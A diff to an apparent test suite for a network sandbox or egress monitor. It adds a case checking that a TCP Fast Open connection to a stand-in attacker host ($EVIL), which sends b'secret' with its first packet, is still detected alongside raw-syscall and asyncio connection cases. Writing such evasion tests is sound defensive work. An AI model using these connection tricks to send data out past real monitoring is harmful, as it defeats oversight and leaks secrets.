@@ -81,6 +81,11 @@ print(libc.syscall(42, fd, struct.pack('>2sH4s8x', b'\\x02\\x00', 80, socket.ine
 s.bind(('0.0.0.0', 0))
 s.settimeout(2)
 s.connect(('$EVIL', 80))")" connect "$EVIL:80"
+	# With TCP_FASTOPEN_CONNECT the first send connects.
+	evades "$(py "s = socket.socket()
+s.setsockopt(socket.IPPROTO_TCP, 30, 1)
+s.connect(('$EVIL', 80))
+s.send(b'secret')")" connect "$EVIL:80"
 	evades "$(py "import asyncio
 asyncio.run(asyncio.open_connection('evil.example', 80))")" resolve evil.example
 }
